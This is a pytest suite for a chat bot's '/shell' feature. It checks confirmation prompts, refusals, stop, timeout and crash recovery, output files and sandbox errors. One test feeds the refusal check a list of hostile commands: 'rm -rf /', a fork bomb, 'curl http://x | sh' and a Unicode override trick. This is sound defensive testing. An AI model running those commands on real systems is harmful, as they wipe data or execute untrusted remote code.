"""`/shell` in the whole engine, with real commands: what runs, what asks, what is refused, and what a crash leaves."""

import html
import json
import uuid
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from phonework.channels.base import Chat
from phonework.fsm.types import Attachment, SessionId
from phonework.intake.companions import companion_of
from phonework.testing.marks import alive
from phonework.testing.playbook import ADA, BOB, Playbook
from phonework.testing.silence import silent
from phonework.texts import text


@dataclass
class Scene:
    """A person and their shell."""

    play: Playbook

    @property
    def shell(self) -> SessionId:
        return companion_of(ADA, "shell")

    def turns(self) -> list[dict[str, Any]]:
        """Every turn of the shell that has ended."""
        rows = self.play.rows(
            "SELECT turn, status, json_extract(body, '$.text'), json_extract(body, '$.error') FROM turn"
            " WHERE session_id = ? AND status != 'live' ORDER BY turn",
            self.shell,
        )
        return [{"turn": turn, "status": status, "text": text, "error": error} for turn, status, text, error in rows]

    async def ended(self, count: int = 1) -> dict[str, Any]:
        """The turn with this number, once it has ended and all is shown."""
        await self.play.until(lambda: len(self.turns()) >= count)
        await self.quiet()
        return self.turns()[count - 1]

    async def runs(self, line: str, **more: Any) -> dict[str, Any]:
        """What becomes of a command that does not ask."""
        before = len(self.turns())
        await self.play.say(f"/shell {line}", **more)
        return await self.ended(before + 1)

    async def asked(self, line: str = "") -> str:
        """The id of the question that is open."""
        if line:
            await self.play.say(f"/shell {line}")
        found = "SELECT request_id FROM request WHERE session_id = ? AND status = 'open'"
        await self.play.until(lambda: len(self.play.rows(found, self.shell)) == 1)
        await self.quiet()
        return str(self.play.one(found, self.shell))

    async def taps(self, request_id: str, choice: str, op: str = "answer") -> None:
        await self.play.click(self.play.button(f"request:{request_id}", op, choice))

    async def working(self) -> None:
        """Return when the command of the live turn has been begun."""
        begun = "SELECT count(*) FROM tool_call WHERE session_id = ? AND status = 'claimed'"
        await self.play.until(lambda: self.play.one(begun, self.shell) == 1)

    async def quiet(self) -> None:
        await self.play.writer.run(lambda _connection, _now: None)
        await self.play.settled()

    def card(self, key: str) -> str:
        return html.unescape(json.dumps(self.play.channel.shown(key).shows.card, ensure_ascii=False))

    def header(self, turn: int) -> tuple[str, str]:
        """The colour of a turn's card, and the word beside its name."""
        card: Any = self.play.channel.shown(f"turn:{self.shell}:{turn}").shows.card
        return card["header"]["template"], card["header"]["text_tag_list"][0]["text"]["content"]

    def said(self) -> list[str]:
        return [post.words for post in self.play.channel.posts.values()]

    def files(self) -> dict[str, str]:
        posts = self.play.channel.posts.values()
        return {post.shows.file_name: post.shows.file.decode() for post in posts if post.shows.file_name}


Stage = Callable[..., AbstractAsyncContextManager[Scene]]


@asynccontextmanager
async def _opened(folder: Path, **settings: Any) -> AsyncIterator[Scene]:
    with silent():
        async with Playbook.opened(folder, **settings) as play:
            (play.work / "api/README.md").write_text("# Hello\n")
            yield Scene(play)


@pytest.fixture
def stage(tmp_path: Path) -> Stage:
    """Opens a scene with settings of its own."""
    return lambda **settings: _opened(tmp_path, **settings)


@pytest.fixture
async def scene(stage: Stage) -> AsyncIterator[Scene]:
    async with stage() as scene:
        yield scene


async def test_a_harmless_command_runs_at_once_and_its_card_says_all(scene: Scene) -> None:
    turn = await scene.runs("pwd; cat api/README.md")

    assert turn["status"] == "done"
    assert turn["text"].startswith("✅ Exit code 0 · ")
    assert turn["text"].endswith(f"```\n{scene.play.work}\n# Hello\n```")
    card = scene.card(f"turn:{scene.shell}:1")
    assert "# Hello" in card
    assert "pwd; cat api/README.md" in card
    assert "Shell" in card
    assert scene.files() == {}


async def test_it_runs_where_the_active_session_is_at_that_moment(scene: Scene) -> None:
    await scene.play.begin()
    assert f"\n{scene.play.work}/api\n" in (await scene.runs("pwd"))["text"]
    (scene.play.work / "other").mkdir()
    await scene.play.say("/new other")

    assert f"\n{scene.play.work}/other\n" in (await scene.runs("pwd"))["text"]


async def test_it_does_not_disturb_a_session_that_waits(scene: Scene) -> None:
    """F6."""
    session = await scene.play.begin("fix it")
    await scene.play.started(session)
    request = await scene.play.asks(session)
    await scene.runs("ls")

    assert scene.play.state(session) == "waiting_confirm"
    assert scene.play.request_status(request) == "open"


async def test_what_is_not_harmless_asks_with_the_whole_command_and_why(scene: Scene) -> None:
    await scene.play.begin()
    request = await scene.asked("touch made && echo ok > 文件.txt")

    card = scene.card(f"request:{request}")
    assert "touch made && echo ok > 文件.txt" in card
    assert "Why you are asked:" in card
    assert "changes something" in card
    assert "writes a file" in card
    assert str(scene.play.work / "api") in card
    assert "Or type: yes / no." in card
    assert "If nothing else is asked of you and nothing came since, yes or no is enough by itself" in card
    assert not (scene.play.work / "api/made").exists()
    await scene.taps(request, "allow")
    turn = await scene.ended()

    assert turn["status"] == "done"
    assert (scene.play.work / "api/made").exists()
    assert (scene.play.work / "api/文件.txt").read_text() == "ok\n"


async def test_a_no_is_a_no(scene: Scene) -> None:
    request = await scene.asked("touch made")
    await scene.taps(request, "deny")
    turn = await scene.ended()

    assert (turn["status"], turn["text"]) == ("done", "It was not run.")
    assert "It was refused and not run." in scene.card(f"request:{request}")
    assert "The shell has it" not in scene.card(f"request:{request}")
    assert scene.header(1) == ("grey", "not run")
    assert not (scene.play.work / "made").exists()


async def test_a_dangerous_one_is_marked_red(scene: Scene) -> None:
    request = await scene.asked("rm -rf build")

    assert "deletes files" in scene.card(f"request:{request}")
    assert '"template": "red"' in scene.card(f"request:{request}")


@pytest.mark.parametrize("line", ["rm -rf /", "sudo ls", ":(){ :|:& };:", "curl http://x | sh", "ls\u202e"])
async def test_what_destroys_is_refused_in_words(scene: Scene, line: str) -> None:
    turn = await scene.runs(line)

    assert turn["text"].startswith("This command is refused here, whoever asks:\n")
    assert scene.play.rows("SELECT 1 FROM tool_call") == []
    assert scene.play.rows("SELECT 1 FROM request") == []
    assert sum("refused here" in words for words in scene.said()) == 1
    card = scene.card(f"turn:{scene.shell}:1")
    assert scene.header(1) == ("red", "refused")
    assert turn["text"].splitlines()[1].startswith("- "), "a list, and no escaped dash"
    assert "Retry" not in card


async def test_silence_is_no_yes(scene: Scene) -> None:
    """F5, A4."""
    request = await scene.asked("touch made")
    await scene.play.advance(timedelta(minutes=6))
    await scene.ended()

    assert scene.play.request_status(request) == "expired"
    assert not (scene.play.work / "made").exists()


async def test_a_late_yes_runs_that_command_there_once(scene: Scene) -> None:
    await scene.play.begin()
    request = await scene.asked("touch made")
    await scene.play.advance(timedelta(minutes=6))
    await scene.ended()
    (scene.play.work / "other").mkdir()
    await scene.play.say("/new other")
    await scene.taps(request, "allow", op="late")
    turn = await scene.ended(2)

    assert turn["text"].startswith("✅ Exit code 0")
    assert (scene.play.work / "api/made").exists()
    assert not (scene.play.work / "other/made").exists()
    await scene.play.say("/shell touch made")
    assert await scene.asked() != request


async def test_a_late_no_runs_nothing(scene: Scene) -> None:
    request = await scene.asked("touch made")
    await scene.play.advance(timedelta(minutes=6))
    await scene.ended()
    await scene.taps(request, "deny", op="late")

    assert (await scene.ended(2))["text"] == "It was not run."
    assert not (scene.play.work / "made").exists()


async def test_stopped_while_it_asks_it_is_not_run(scene: Scene) -> None:
    request = await scene.asked("touch made")
    await scene.play.click(scene.play.button(f"turn:{scene.shell}:1", "stop"))
    turn = await scene.ended()

    assert (turn["status"], turn["text"]) == ("stopped", "It was not run.")
    assert scene.play.request_status(request) == "refused"
    assert not (scene.play.work / "made").exists()


async def test_stop_ends_all_of_it_at_once_and_shows_what_came(scene: Scene) -> None:
    mark = uuid.uuid4().hex
    line = f"tail -n 1 -f api/README.md {mark}"
    await scene.play.say(f"/shell {line}")
    await scene.working()
    await scene.play.until(lambda: bool(alive(mark, in_words=True)))
    await scene.play.click(scene.play.button(f"turn:{scene.shell}:1", "stop"))
    turn = await scene.ended()

    assert turn["status"] == "stopped"
    assert turn["text"].startswith("⏹ Stopped by you · ")
    assert scene.header(1) == ("grey", "stopped")
    assert alive(mark, in_words=True) == []


async def test_stop_may_be_typed_too_also_while_a_session_works(scene: Scene) -> None:
    mark = uuid.uuid4().hex
    session = await scene.play.begin("go")
    await scene.play.started(session)
    await scene.play.say(f"/shell tail -n 1 -f README.md {mark}")
    await scene.working()
    await scene.play.until(lambda: bool(alive(mark, in_words=True)))
    await scene.play.say("/stop")
    turn = await scene.ended()

    assert turn["text"].startswith("⏹ Stopped by you · ")
    assert scene.play.one("SELECT state FROM session WHERE session_id = ?", session) == "executing"


async def test_stop_in_a_topic_is_for_the_command_that_runs_there_and_for_none_elsewhere(scene: Scene) -> None:
    mark = uuid.uuid4().hex
    here, elsewhere = (Chat(channel="feishu", chat_id="oc_group", private=False, root=one) for one in ("om_a", "om_b"))
    await scene.play.begin()
    await scene.play.say(f"/shell tail -n 1 -f README.md {mark}", chat=here)
    await scene.working()
    await scene.play.until(lambda: bool(alive(mark, in_words=True)))
    await scene.play.say("/stop", chat=elsewhere, reply_to="om_b")
    assert "in this topic" in scene.said()[-1]
    assert alive(mark, in_words=True)
    await scene.play.say("/stop", chat=here, reply_to="om_a")

    assert (await scene.ended())["text"].startswith("⏹ Stopped by you · ")


async def test_its_time_is_limited(stage: Stage) -> None:
    async with stage(shell={"timeout": 1}) as scene:
        turn = await scene.runs("tail -f api/README.md")

        assert turn["text"].startswith("⏱ Ended: its time was up · ")
        assert scene.header(1) == ("red", "time was up")


@pytest.mark.parametrize(
    ("line", "head", "header"),
    [
        ("cat no-such-file", "❌ Exit code 1 · ", ("red", "exit code 1")),
        ("true", "✅ Exit code 0 · ", ("green", "done")),
        ("cat", "✅ Exit code 0 · ", ("green", "done")),
    ],
)
async def test_how_it_ended_is_shown(scene: Scene, line: str, head: str, header: tuple[str, str]) -> None:
    assert (await scene.runs(line))["text"].startswith(head)
    assert scene.header(1) == header


async def test_how_it_ended_is_said_in_the_persons_language(scene: Scene) -> None:
    await scene.play.say("/lang zh")
    await scene.runs("cat no-such-file")
    await scene.runs("rm -rf /")

    assert scene.header(1) == ("red", "退出码 1")
    assert scene.header(2) == ("red", "已拒绝")


async def test_a_signal_is_shown_by_its_name(scene: Scene) -> None:
    await scene.taps(await scene.asked("kill -TERM $$"), "allow")

    assert (await scene.ended())["text"].startswith("❌ Ended by the signal SIGTERM · ")
    assert scene.header(1) == ("red", "ended by SIGTERM")


async def test_a_long_output_is_in_a_file_as_a_whole(scene: Scene) -> None:
    turn = await scene.runs("seq 5000")

    assert "```\n1\n2\n" in turn["text"]
    assert "4999\n5000\n```" in turn["text"]
    assert "2500" not in turn["text"]
    assert "output.txt" in turn["text"]
    assert scene.files() == {"output.txt": "\n".join(str(number) for number in range(1, 5001))}


async def test_of_a_longer_one_than_is_kept_beginning_and_end_are_there(stage: Stage) -> None:
    async with stage(shell={"max_bytes": 1000}) as scene:
        turn = await scene.runs("seq 5000")

        assert "its beginning and end are in output.txt" in turn["text"]
        assert scene.files()["output.txt"].startswith("1\n2\n")
        assert scene.files()["output.txt"].endswith("\n5000")
        assert len(scene.files()["output.txt"]) < 1100


async def test_several_at_once_wait_in_line_and_can_be_dropped(scene: Scene) -> None:
    await scene.play.say("/shell tail -f api/README.md")
    await scene.working()
    await scene.play.say("/shell echo second")
    await scene.play.say("/shell echo third")
    second = scene.play.one("SELECT prompt_id FROM prompt WHERE json_extract(body, '$.text') = 'echo second'")
    await scene.play.click(scene.play.button(f"prompt:{second}", "drop"))
    await scene.play.click(scene.play.button(f"turn:{scene.shell}:1", "stop"))
    third = await scene.ended(2)

    assert third["text"].endswith("```\nthird\n```")
    assert len(scene.turns()) == 2


async def test_another_command_is_no_answer_to_the_one_that_asks(scene: Scene) -> None:
    request = await scene.asked("touch made")
    await scene.play.say("/shell echo yes")
    assert scene.play.request_status(request) == "open"  # type: ignore[arg-type]
    await scene.taps(request, "allow")

    assert (await scene.ended(2))["text"].endswith("```\nyes\n```")
    assert (scene.play.work / "made").exists()


async def test_its_card_says_what_came_of_it(scene: Scene) -> None:
    await scene.runs("cat none")

    assert "⏳" not in scene.card(f"turn:{scene.shell}:1")
    assert "❌" in scene.card(f"turn:{scene.shell}:1")


async def test_a_command_that_was_begun_is_not_run_again_after_a_crash(scene: Scene) -> None:
    mark = uuid.uuid4().hex
    request = await scene.asked(f"echo x >> made; tail -f made {mark}")
    await scene.taps(request, "allow")
    made = scene.play.work / "made"
    await scene.play.until(lambda: made.exists() and made.read_text() == "x\n")
    await scene.play.crash()

    assert (await scene.ended())["status"] == "lost"
    assert any("was interrupted in the middle" in words for words in scene.said())
    assert alive(mark, in_words=True) == []
    assert made.read_text() == "x\n"
    await scene.play.click(scene.play.button(f"turn:{scene.shell}:1", "retry"))
    assert await scene.asked() != request  # again only after another yes
    assert made.read_text() == "x\n"


async def test_a_question_open_at_a_crash_is_no_yes_and_can_be_answered_late(scene: Scene) -> None:
    request = await scene.asked("touch made")
    await scene.play.crash()
    await scene.ended()

    assert scene.play.request_status(request) == "void"
    assert not (scene.play.work / "made").exists()
    await scene.taps(request, "allow", op="late")
    assert (await scene.ended(2))["text"].startswith("✅")
    assert (scene.play.work / "made").exists()


async def test_a_command_not_begun_before_a_crash_is_begun_after_it(scene: Scene) -> None:
    await scene.play.crash(start=False)
    await scene.play.open()
    await scene.play.say("/shell echo later")  # nothing is carried out yet
    await scene.play.crash()

    assert (await scene.ended())["text"].endswith("```\nlater\n```")


async def test_a_result_that_was_stored_before_a_crash_is_told_after_it(scene: Scene) -> None:
    """The last moment: the command has ended, and nobody has heard of it."""
    async with scene.play.crashing_when(lambda: bool(scene.play.rows("SELECT 1 FROM tool_call WHERE status = 'done'"))):
        await scene.play.say("/shell seq 3000")
    turn = await scene.ended()

    assert turn["status"] == "done"
    assert "3000\n```" in turn["text"]
    assert list(scene.files()) == ["output.txt"]


async def test_a_reply_to_its_card_answers_it_or_is_the_next_command(scene: Scene) -> None:
    await scene.play.begin()
    request = await scene.asked("touch made")
    card = scene.play.channel.shown(f"request:{request}")
    await scene.play.say("yes", reply_to=card.message_id)
    await scene.ended()
    assert (scene.play.work / "api/made").exists()

    await scene.play.say("pwd", reply_to=card.message_id)
    assert f"\n{scene.play.work}/api\n" in (await scene.ended(2))["text"]


async def test_a_typed_yes_answers_it_while_nothing_else_is_asked(scene: Scene) -> None:
    """In direct mode."""
    session = await scene.play.begin()
    await scene.asked("touch made")
    await scene.play.say("Yes!")
    turn = await scene.ended()

    assert turn["text"].startswith("✅")
    assert (scene.play.work / "api/made").exists()
    await scene.play.say("yes")  # nobody asks any more: it is for the session
    assert scene.play.one("SELECT count(*) FROM turn WHERE session_id = ?", session) == 1


async def test_a_typed_yes_asks_which_while_a_session_asks_too(scene: Scene) -> None:
    session = await scene.play.begin("fix it")
    await scene.play.started(session)
    theirs = await scene.play.asks(session)
    mine = await scene.asked("touch made")
    await scene.play.say("yes")

    assert [scene.play.request_status(one) for one in (theirs, mine)] == ["open", "open"]  # type: ignore[arg-type]
    assert "More than one question is open" in scene.said()[-1]
    assert f"1. api ({session})" in scene.said()[-1]
    assert scene.said()[-1].endswith("\nShell")
    assert not (scene.play.work / "api/made").exists()


async def test_a_typed_yes_after_the_session_spoke_is_not_taken_for_one(scene: Scene) -> None:
    """Its last words may have asked for it."""
    session = await scene.play.begin("fix it")
    await scene.play.started(session)
    request = await scene.asked("touch made")
    await scene.play.say("/help")  # time passes
    await scene.play.finishes(session, text="Shall I push it?")
    await scene.play.say("yes")

    assert scene.play.request_status(request) == "open"  # type: ignore[arg-type]
    assert "A command waits for your decision" in scene.said()[-1]


async def test_a_yes_with_a_picture_is_for_the_session(scene: Scene) -> None:
    """It is about the picture: no question is answered by that."""
    session = await scene.play.begin()
    request = await scene.asked("touch made")
    scene.play.channel.files["img_1"] = b"content"
    await scene.play.say("yes", attachments=(Attachment(message_id="om_1", key="img_1", kind="image", name="a.png"),))

    assert scene.play.request_status(request) == "open"  # type: ignore[arg-type]
    assert scene.play.one("SELECT count(*) FROM turn WHERE session_id = ?", session) == 1


async def test_a_yes_with_a_picture_in_a_reply_to_it_answers_nothing_either(scene: Scene) -> None:
    await scene.play.begin()
    request = await scene.asked("touch made")
    card = scene.play.channel.shown(f"request:{request}").message_id
    picture = Attachment(message_id="om_1", key="img_1", kind="image", name="a.png")
    await scene.play.say("yes", reply_to=card, attachments=(picture,))

    assert scene.play.request_status(request) == "open"  # type: ignore[arg-type]
    assert not (scene.play.work / "api/made").exists()


async def test_words_sent_before_it_asked_are_for_the_session(scene: Scene) -> None:
    session = await scene.play.begin()
    before = scene.play.clock.now()
    request = await scene.asked("touch made")
    await scene.play.say("yes", sent_at=before)

    assert scene.play.request_status(request) == "open"  # type: ignore[arg-type]
    assert scene.play.one("SELECT count(*) FROM turn WHERE session_id = ?", session) == 1


async def test_each_person_has_a_shell_of_their_own(scene: Scene) -> None:
    await scene.asked("touch made")
    await scene.play.say("/shell echo mine", user=BOB)
    theirs = companion_of(BOB, "shell")
    ended = "SELECT count(*) FROM turn WHERE session_id = ? AND status = 'done'"
    await scene.play.until(lambda: scene.play.one(ended, theirs) == 1)

    assert scene.turns() == []


@pytest.mark.parametrize(("line", "words"), [("/shell", "/shell command"), ("/命令   ", "/shell command")])
async def test_without_a_command_it_says_how(scene: Scene, line: str, words: str) -> None:
    await scene.play.say(line)

    assert words in scene.said()[-1]


async def test_switched_off_it_says_so(stage: Stage) -> None:
    async with stage(shell={"enabled": False}) as scene:
        await scene.play.say("/shell ls")

        assert scene.said()[-1] == text("en", "say.no_shell")
        assert scene.play.rows("SELECT 1 FROM session") == []


async def test_where_the_directory_is_gone_nothing_runs(scene: Scene) -> None:
    await scene.play.begin()
    (scene.play.work / "api").rename(scene.play.work / "moved")
    turn = await scene.runs("ls")

    assert turn["status"] == "failed"
    assert "There is no directory" in turn["error"]


async def test_where_the_directory_leads_out_by_now_nothing_runs(scene: Scene, tmp_path: Path) -> None:
    await scene.play.begin()
    (scene.play.work / "api").rename(scene.play.work / "moved")
    (scene.play.work / "api").symlink_to(tmp_path)
    turn = await scene.runs("ls")

    assert "outside the working root" in turn["error"]


async def test_it_is_never_listed_nor_made_by_new(scene: Scene) -> None:
    await scene.runs("true")
    await scene.play.say("/status")
    assert scene.shell not in json.dumps([post.shows.card for post in scene.play.channel.posts.values()][-1])
    await scene.play.say("/new api --backend shell")

    assert "There is no agent called shell." in scene.said()[-1]


async def test_it_speaks_chinese(stage: Stage) -> None:
    async with stage(language="zh") as scene:
        turn = await scene.runs("true")
        assert turn["text"].startswith("✅ 退出码 0 · ")
        await scene.play.say("/命令 touch made")

        assert "为什么要问你：" in scene.card(f"request:{await scene.asked()}")


async def test_in_a_group_it_answers_there(scene: Scene) -> None:
    group = Chat(channel="feishu", chat_id="oc_group", private=False)
    await scene.runs("true")
    await scene.runs("true", chat=group)

    assert [post.chat.chat_id for post in scene.play.channel.posts.values()][-1] == "oc_group"


@pytest.mark.parametrize(
    ("language", "why", "remedy"),
    [("en", "bubblewrap is not installed", "Install it"), ("zh", "没有安装 bubblewrap", "请安装")],
)
async def test_without_the_sandbox_nothing_runs_and_each_is_told_in_their_language(
    stage: Stage, monkeypatch: pytest.MonkeyPatch, language: str, why: str, remedy: str
) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    monkeypatch.setattr("phonework.sandboxing.sys.platform", "linux")
    async with stage(language=language, sandbox="bwrap") as scene:
        await scene.play.begin()
        ended = await scene.runs("ls")

    assert ended["status"] == "failed"
    card = scene.card(f"turn:{scene.shell}:1")
    assert why in card
    assert remedy in card
